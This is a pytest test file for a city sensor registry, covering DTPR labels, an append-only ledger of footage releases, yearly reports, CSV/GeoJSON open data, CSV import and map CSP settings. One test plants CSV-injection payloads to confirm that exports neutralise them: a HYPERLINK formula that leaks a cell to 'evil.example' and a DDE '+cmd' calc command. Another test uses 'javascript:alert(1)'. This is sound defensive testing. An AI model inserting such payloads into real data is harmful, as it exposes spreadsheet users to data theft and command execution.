"""DTPR values, the footage-release ledger and yearly report, open data (CSV/GeoJSON), CSV import,
signage and the map settings."""

import csv
import io
from datetime import date

import pytest
from sqlalchemy import event
from sqlalchemy.exc import IntegrityError

from participation.core.append_only import AppendOnlyError
from participation.core.models import ActionLog, Role, SearchOutbox
from participation.core.types import utcnow
from participation.extensions import db
from participation.sensors import ledger, opendata, services
from participation.sensors.models import Device, DeviceVersion, FootageRelease

from ..conftest import html_of
from .conftest import complete_fields, ja

EN = {"Accept-Language": "en"}


def _count(app, model):
    with app.app_context():
        return db.session.scalar(db.select(db.func.count()).select_from(model))


def bulk_devices(app, n: int, **overrides) -> None:
    """``n`` published devices inserted directly (fast enough for thousands)."""
    with app.app_context():
        now = utcnow()
        for i in range(n):
            device = Device()
            services._apply(device, services._clean(complete_fields(name=ja(f"カメラ{i}"), **overrides)))
            device.published_at = now
            db.session.add(device)
        db.session.commit()


# --- DTPR -----------------------------------------------------------------------------------------


def test_publication_needs_a_dtpr_purpose_and_technology(app):
    with app.app_context():
        device = services.create_device(None, **complete_fields(dtpr={}))
        with pytest.raises(services.SensorError) as refused:
            services.publish(None, device)
        assert [name for name, _m in refused.value.problems] == ["dtpr", "dtpr"]


def test_unknown_dtpr_values_are_refused(app):
    with app.app_context():
        for bad in ({"purpose": ["spying"]}, {"mood": ["happy"]}, {"purpose": "safety_security"}):
            with pytest.raises(services.SensorError):
                services.create_device(None, **complete_fields(dtpr=bad))
    assert _count(app, Device) == 0


def test_device_page_shows_dtpr_values_with_pictograms(client, make_device):
    device_id = make_device(dtpr={"purpose": ["safety_security"], "tech": ["video_camera"], "storage": ["local"]})
    page = html_of(client.get(f"/sensors/{device_id}", headers=EN))
    assert "Safety &amp; security" in page
    assert 'class="dtpr-icon dtpr-icon--purpose"' in page
    assert 'class="dtpr-icon dtpr-icon--retention"' in page  # derived from the 14 days
    assert "Retained 14 days" in page
    assert "style=" not in page.split("<main", 1)[1]  # the CSP forbids inline styles


def test_purpose_filter(client, make_device):
    make_device(name=ja("防犯カメラA"))
    make_device(name=ja("人流センサーB"), dtpr={"purpose": ["planning"], "tech": ["infrared_counter"]})
    page = html_of(client.get("/sensors?purpose=planning"))
    assert "人流センサーB" in page and "防犯カメラA" not in page
    assert client.get("/sensors?purpose=nonsense").status_code == 200


def test_expired_devices_are_flagged_to_staff_and_the_public(app, client, make_device, make_user, login):
    device_id = make_device(active_since=date(2020, 4, 1), active_until=date(2021, 3, 31))
    assert "Expired" in html_of(client.get(f"/sensors/{device_id}", headers=EN))
    login(make_user(Role.STAFF))
    page = html_of(client.get("/admin/sensors", headers=EN))
    assert "Needing renewal" in page and f"/admin/sensors/{device_id}" in page


# --- ledger -----------------------------------------------------------------------------------------


def _release(app, ids, **overrides):
    values = {
        "released_on": date(2025, 6, 1),
        "device_ids": ids,
        "ground": "criminal_investigation",
        "recipient_type": "police",
        "items": 2,
    }
    values.update(overrides)
    with app.app_context():
        corrects = values.pop("corrects", None)
        if corrects is not None:
            corrects = db.session.get(FootageRelease, corrects)
        return ledger.record_release(None, corrects=corrects, **values).id


def test_release_is_recorded_publicly_and_logged(app, client, make_device):
    device_id = make_device()
    _release(app, [device_id])
    page = html_of(client.get("/sensors/releases", headers=EN))
    assert "Criminal investigation, on request of an investigative agency" in page
    assert "Police" in page
    with app.app_context():
        assert db.session.scalar(db.select(ActionLog.action).order_by(ActionLog.id.desc())) == "sensor.release_recorded"


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"released_on": None}, ledger.DATE_MISSING),
        ({"released_on": date(2999, 1, 1)}, ledger.DATE_FUTURE),
        ({"device_ids": []}, ledger.NO_DEVICE),
        ({"ground": "curiosity"}, ledger.UNKNOWN_GROUND),
        ({"recipient_type": "press"}, ledger.UNKNOWN_RECIPIENT),
        ({"items": 0}, ledger.ITEMS_RANGE),
        ({"items": True}, ledger.ITEMS_RANGE),
    ],
)
def test_bad_releases_are_refused(app, make_device, overrides, message):
    device_id = make_device()
    with pytest.raises(services.SensorError) as refused:
        _release(app, [device_id], **overrides)
    assert refused.value.message is message
    assert _count(app, FootageRelease) == 0


def test_release_from_a_draft_is_refused(app, make_device):
    draft = make_device(published=False)
    with pytest.raises(services.SensorError):
        _release(app, [draft])


def test_corrections_are_new_entries_and_entries_never_change(app, client, make_device):
    device_id = make_device()
    first = _release(app, [device_id], items=2)
    with pytest.raises(services.SensorError) as refused:
        _release(app, [device_id], items=3, corrects=first)  # needs a note
    assert refused.value.message is ledger.NOTE_MISSING
    second = _release(app, [device_id], items=3, corrects=first, correction_note=ja("件数の誤り"))
    with pytest.raises(services.SensorError) as refused:
        _release(app, [device_id], items=4, corrects=first, correction_note=ja("再訂正"))
    assert refused.value.message is ledger.ALREADY_CORRECTED
    with app.app_context():
        entry = db.session.get(FootageRelease, first)
        entry.items = 99
        with pytest.raises(AppendOnlyError, match="append-only"):
            db.session.commit()
        db.session.rollback()
        with pytest.raises(AppendOnlyError, match="append-only"):
            db.session.delete(db.session.get(FootageRelease, first))
            db.session.flush()
        db.session.rollback()
        assert db.session.get(FootageRelease, first).items == 2
    page = html_of(client.get("/sensors/releases", headers=EN))
    assert f"Corrected by entry #{second}" in page and f"Corrects entry #{first}" in page
    with app.app_context():
        figures = ledger.yearly_report(2025)
    assert figures["releases"] == 1 and figures["recordings"] == 3


def test_database_refuses_a_second_correction_and_bad_values(app, make_device):
    device_id = make_device()
    first = _release(app, [device_id])
    _release(app, [device_id], corrects=first, correction_note=ja("訂正"))
    with app.app_context():
        db.session.add(
            FootageRelease(
                released_on=date(2025, 6, 1),
                ground="life_and_body",
                recipient_type="police",
                items=1,
                corrects_id=first,
            )
        )
        with pytest.raises(IntegrityError):
            db.session.commit()
        db.session.rollback()
        db.session.add(FootageRelease(released_on=date(2025, 6, 1), ground="gossip", recipient_type="police", items=1))
        with pytest.raises(IntegrityError):
            db.session.commit()


def test_only_staff_record_releases(app, client, make_device, make_user, login):
    device_id = make_device()
    form = {
        "released_on": "2025-06-01",
        "devices": str(device_id),
        "ground": "life_and_body",
        "recipient_type": "fire_rescue",
        "items": "1",
    }
    assert client.post("/admin/sensors/releases/new", data=form).status_code == 302  # to the login page
    login(make_user(Role.RESIDENT))
    assert client.post("/admin/sensors/releases/new", data=form).status_code == 403
    assert _count(app, FootageRelease) == 0


def test_staff_record_and_correct_releases_through_the_form(app, client, make_device, make_user, login):
    device_id = make_device()
    login(make_user(Role.STAFF))
    assert client.get("/admin/sensors/releases/new").status_code == 200
    form = {
        "released_on": "2025-06-01",
        "devices": str(device_id),
        "ground": "life_and_body",
        "recipient_type": "fire_rescue",
        "items": "0",
    }
    refused = client.post("/admin/sensors/releases/new", data=form, headers=EN)
    assert refused.status_code == 422 and "whole number" in refused.get_data(as_text=True)
    form["items"] = "1"
    assert client.post("/admin/sensors/releases/new", data=form).status_code == 302
    with app.app_context():
        first = db.session.scalar(db.select(FootageRelease.id))
    assert client.get(f"/admin/sensors/releases/new?corrects={first}").status_code == 200
    form.update({"items": "2", "corrects": str(first), "correction_note-ja": "件数の誤り"})
    assert client.post("/admin/sensors/releases/new", data=form).status_code == 302
    with app.app_context():
        rows = db.session.execute(
            db.select(FootageRelease.items, FootageRelease.corrects_id).order_by(FootageRelease.id)
        ).all()
    assert [tuple(r) for r in rows] == [(1, None), (2, first)]


def test_fiscal_years_run_from_april_to_march():
    assert ledger.fiscal_year_of(date(2026, 3, 31)) == 2025
    assert ledger.fiscal_year_of(date(2026, 4, 1)) == 2026
    assert ledger.fiscal_year_bounds(2025) == (date(2025, 4, 1), date(2026, 3, 31))


def test_yearly_report_counts_by_kind_area_ground_and_recipient(app, client, make_device):
    camera = make_device()
    make_device(kind="infrared_counter", dtpr={"purpose": ["planning"], "tech": ["infrared_counter"]})
    make_device(active_since=date(2027, 4, 1), active_until=None)  # not yet in operation in FY2025
    _release(app, [camera], released_on=date(2025, 4, 1), items=1)
    _release(
        app, [camera], released_on=date(2026, 3, 31), ground="life_and_body", recipient_type="fire_rescue", items=4
    )
    _release(app, [camera], released_on=date(2026, 4, 1), items=9)  # FY2026
    with app.app_context():
        figures = ledger.yearly_report(2025)
    assert figures["by_kind"] == {"camera": 1, "infrared_counter": 1}
    assert dict(figures["by_ground"]) == {"criminal_investigation": 1, "life_and_body": 1}
    assert dict(figures["by_recipient"]) == {"police": 1, "fire_rescue": 1}
    assert figures["recordings"] == 5
    for headers, text in (
        (EN, "Operating report for fiscal year 2025"),
        ({"Accept-Language": "ja"}, "2025年度 運用状況報告"),
    ):
        page = html_of(client.get("/sensors/reports/2025", headers=headers))
        assert text in page
        assert page.count('<svg class="chart"') == 4
        assert "<script" not in page.split("<main", 1)[1]
    assert client.get("/sensors/reports/1900").status_code == 404
    assert client.get("/sensors/reports").status_code == 302


# --- open data ------------------------------------------------------------------------------------


def test_geojson_has_published_fixed_devices(client, make_device):
    fixed = make_device()
    make_device(published=False, name=ja("下書き"))
    make_device(
        name=ja("巡回車"), mobile=True, latitude=None, longitude=None, area=ja("市内全域"), address=None, place=None
    )
    response = client.get("/sensors.geojson")
    assert response.mimetype == "application/geo+json"
    data = response.get_json()
    assert [f["id"] for f in data["features"]] == [fixed]
    feature = data["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [134.8421, 34.7512]}
    assert feature["properties"]["url"] == f"/sensors/{fixed}"
    assert feature["properties"]["name"]["ja"] == "見守りカメラ 駅北口"


@pytest.mark.parametrize("path", ["/sensors.geojson", "/sensors"])
def test_map_page_and_geojson_queries_do_not_grow(app, client, count_queries, path):
    counts = []
    for n in (10, 150):
        bulk_devices(app, n - (counts and 10 or 0))
        client.get(path)
        with count_queries() as counted:
            assert client.get(path).status_code == 200
        counts.append(counted.n)
    assert counts[0] == counts[1] == (1 if path.endswith("geojson") else 5), counts


def test_csv_export_round_trips_through_import(app, client, make_device, make_user):
    device_id = make_device()
    make_device(published=False, name=ja("下書き"))
    response = client.get("/sensors.csv")
    assert response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    assert len(rows) == 1 and rows[0]["name_ja"] == "見守りカメラ 駅北口"
    assert rows[0]["dtpr"] == "purpose:safety_security; tech:video_camera identifiable_video"
    with app.app_context():
        devices = opendata.import_csv(None, body.encode("utf-8"))
        assert devices[0].snapshot() | {"name": None} == db.session.get(Device, device_id).snapshot() | {"name": None}


def test_csv_export_keeps_formulas_as_text_and_import_restores_them(app, client, make_device):
    """A spreadsheet must not run a device's name or contact as a formula (issue 12)."""
    evil = '=HYPERLINK("https://evil.example/?leak="&A2,"詳しくはこちら")'
    make_device(name=ja(evil, "+cmd|' /C calc'!A0"), contact=ja("@SUM(1+1)", "-2+3"), latitude=34.5, longitude=-0.25)
    response = client.get("/sensors.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    row = next(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    assert row["name_ja"] == "'" + evil and row["name_en"] == "'+cmd|' /C calc'!A0"
    assert row["contact_ja"] == "'@SUM(1+1)" and row["contact_en"] == "'-2+3"
    assert row["longitude"] == "-0.250000"  # a negative number stays a number
    for value in row.values():
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    with app.app_context():
        imported = opendata.import_csv(None, body.encode("utf-8"), publish=False)[0]
        assert dict(imported.name) == {"ja": evil, "en": "+cmd|' /C calc'!A0"}
        assert dict(imported.contact) == {"ja": "@SUM(1+1)", "en": "-2+3"}


# --- import ---------------------------------------------------------------------------------------


def _csv(rows: list[dict], encoding="utf-8") -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=opendata.columns())
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue().encode(encoding)


def _good_row(i: int = 0, **overrides) -> dict:
    with_values = {}
    for name, value in complete_fields().items():
        if name == "dtpr":
            with_values[name] = "purpose:safety_security; tech:video_camera"
        elif hasattr(value, "items") and name != "dtpr":
            for locale, text in value.items():
                with_values[f"{name}_{locale}"] = text
        elif isinstance(value, bool):
            with_values[name] = "1" if value else "0"
        elif isinstance(value, date):
            with_values[name] = value.isoformat()
        else:
            with_values[name] = str(value)
    with_values["name_ja"] = f"見守りカメラ {i}"
    with_values["name_en"] = f"Watch camera {i}"
    with_values.update(overrides)
    return with_values


def test_import_reports_every_bad_row_and_imports_nothing(app):
    data = _csv(
        [
            _good_row(1),
            _good_row(2, purposes_ja="", purposes_en=""),
            _good_row(3, latitude="200"),
            _good_row(4, kind="drone"),
            _good_row(5, retention_days="abc"),
        ]
    )
    with app.test_request_context(headers=EN), pytest.raises(opendata.ImportRefused) as refused:
        opendata.import_csv(None, data)
    lines = {line for line, _message in refused.value.problems}
    assert lines == {3, 4, 5, 6}
    messages = " ".join(str(m) for _l, m in refused.value.problems)
    assert "purposes" in messages.lower() and "latitude" in messages.lower() and "kind" in messages.lower()
    assert _count(app, Device) == 0


def test_import_reads_shift_jis_and_utf8_with_bom(app):
    with app.app_context():
        assert len(opendata.import_csv(None, _csv([_good_row(1)], "cp932"))) == 1
        assert len(opendata.import_csv(None, b"\xef\xbb\xbf" + _csv([_good_row(2)]))) == 1
        names = db.session.scalars(db.select(Device.name)).all()
    assert [n["ja"] for n in names] == ["見守りカメラ 1", "見守りカメラ 2"]


def test_import_refuses_broken_encoding(app):
    data = _csv([_good_row(1)]) + b"\x82\xff\xfe\x80"
    with app.app_context(), pytest.raises(opendata.ImportRefused) as refused:
        opendata.import_csv(None, data)
    assert refused.value.problems == [(None, opendata.BROKEN_ENCODING)]


def test_import_page_reports_rows_in_the_readers_language(app, client, make_user, login):
    login(make_user(Role.STAFF))
    data = _csv([_good_row(1), _good_row(2, latitude="200")])
    response = client.post(
        "/admin/sensors/import",
        data={"file": (io.BytesIO(data), "devices.csv"), "publish": "y"},
        headers={"Accept-Language": "ja"},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "3行目" in page and "何も取り込んでいません" in page
    response = client.post(
        "/admin/sensors/import",
        data={"file": (io.BytesIO(b"\xff\xfe\x00bad\x81"), "x.csv")},
        headers=EN,
        content_type="multipart/form-data",
    )
    assert response.status_code == 422 and "UTF-8 or Shift_JIS" in response.get_data(as_text=True)
    assert _count(app, Device) == 0
    ok = client.post(
        "/admin/sensors/import",
        data={"file": (io.BytesIO(_csv([_good_row(1)])), "devices.csv"), "publish": "y"},
        content_type="multipart/form-data",
    )
    assert ok.status_code == 302
    assert _count(app, Device) == 1 and _count(app, DeviceVersion) == 1


def test_residents_cannot_import(client, make_user, login):
    login(make_user(Role.RESIDENT))
    assert (
        client.post(
            "/admin/sensors/import", data={"file": (io.BytesIO(b"x"), "x.csv")}, content_type="multipart/form-data"
        ).status_code
        == 403
    )


def _writing_transactions(app):
    """Inside a block, the number of committed transactions that wrote anything."""
    from contextlib import contextmanager

    @contextmanager
    def counting():
        with app.app_context():
            engine = db.engine
        wrote, committed = [False], []

        def on_statement(_conn, _cursor, statement, *_args):
            if statement.lstrip().upper().startswith(("INSERT", "UPDATE", "DELETE")):
                wrote[0] = True

        def on_commit(_conn):
            if wrote[0]:
                committed.append(1)
            wrote[0] = False

        event.listen(engine, "before_cursor_execute", on_statement)
        event.listen(engine, "commit", on_commit)
        try:
            yield committed
        finally:
            event.remove(engine, "before_cursor_execute", on_statement)
            event.remove(engine, "commit", on_commit)

    return counting()


def test_import_of_2000_devices_is_one_transaction(app):
    data = _csv([_good_row(i) for i in range(2000)])
    with app.app_context(), _writing_transactions(app) as transactions:
        devices = opendata.import_csv(None, data)
    assert len(transactions) == 1
    assert len(devices) == 2000
    assert _count(app, Device) == 2000 and _count(app, DeviceVersion) == 2000
    # Indexing is left to `flask search sync` rather than holding the request.
    assert _count(app, SearchOutbox) == 2000


def test_an_import_failing_at_its_last_row_keeps_nothing(app, monkeypatch):
    """The database refusing the last device (after every row passed validation) rolls back the
    devices, versions, outbox rows and log entry written before it."""
    rows = 300
    inserted = []

    def refuse_the_last(_mapper, _connection, target):
        inserted.append(target)
        if len(inserted) == rows:
            raise IntegrityError("INSERT", {}, Exception("refused by the database"))

    event.listen(Device, "before_insert", refuse_the_last)
    try:
        with app.app_context(), pytest.raises(IntegrityError):
            opendata.import_csv(None, _csv([_good_row(i) for i in range(rows)]))
    finally:
        event.remove(Device, "before_insert", refuse_the_last)
    assert len(inserted) == rows
    assert _count(app, Device) == 0 and _count(app, DeviceVersion) == 0
    assert _count(app, SearchOutbox) == 0
    with app.app_context():
        assert (
            db.session.scalar(db.select(db.func.count(ActionLog.id)).where(ActionLog.action == "sensor.imported")) == 0
        )


# --- signage, map settings, hooks ---------------------------------------------------------------


def test_signage_has_the_facts_and_a_qr_code(client, make_device):
    device_id = make_device()
    page = html_of(client.get(f"/sensors/{device_id}/signage", headers=EN))
    assert 'class="segno"' in page and "signage-sticker" in page and "signage-notice" in page
    assert f"http://localhost/sensors/{device_id}" in page
    assert "14 days" in page and "Community Safety Division" in page
    main = page.split("<main", 1)[1]
    assert "style=" not in main and "<script" not in main


def test_signage_of_a_draft_is_not_public(client, make_device):
    assert client.get(f"/sensors/{make_device(published=False)}/signage").status_code == 404


def test_map_appears_only_with_a_tile_server_and_the_csp_allows_it(make_app, make_device):
    plain = make_app().test_client()
    response = plain.get("/sensors")
    assert 'id="sensor-map"' not in response.get_data(as_text=True) and "leaflet" not in response.get_data(as_text=True)
    app = make_app(
        SENSORS_TILE_URL="https://{s}.tile.example.org/{z}/{x}/{y}.png", SENSORS_TILE_ATTRIBUTION="© Example <b>x</b>"
    )
    response = app.test_client().get("/sensors")
    page = response.get_data(as_text=True)
    assert 'id="sensor-map"' in page and "vendor/leaflet/leaflet.js" in page
    assert "&lt;b&gt;" in page  # the attribution is text, not markup
    assert "https://*.tile.example.org" in response.headers["Content-Security-Policy"]


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("", []),
        ("https://tiles.example.jp/{z}/{x}/{y}.png", ["https://tiles.example.jp"]),
        ("https://{s}.tile.openstreetmap.org/{z}/{x}/{y}.png", ["https://*.tile.openstreetmap.org"]),
        ("javascript:alert(1)", []),
        ("https://a.{s}.example.org/{z}", []),
    ],
)
def test_tile_host_for_the_csp(url, expected):
    from participation.core.security import tile_sources

    assert tile_sources({"SENSORS_TILE_URL": url}) == expected


def test_rights_link_appears_only_when_the_rights_desk_exists(make_app, make_device):
    from participation.config import DEFAULTS

    app = make_app()
    device_id = make_device()
    page = html_of(app.test_client().get(f"/sensors/{device_id}"))
    assert f"/rights/new?about=sensor:{device_id}" in page or f"/rights/new?about=sensor%3A{device_id}" in page
    without_rights = [name for name in DEFAULTS["CAPABILITIES"] if not name.startswith("participation.rights")]
    app = make_app(CAPABILITIES=without_rights)
    assert "about=sensor" not in html_of(app.test_client().get(f"/sensors/{device_id}"))
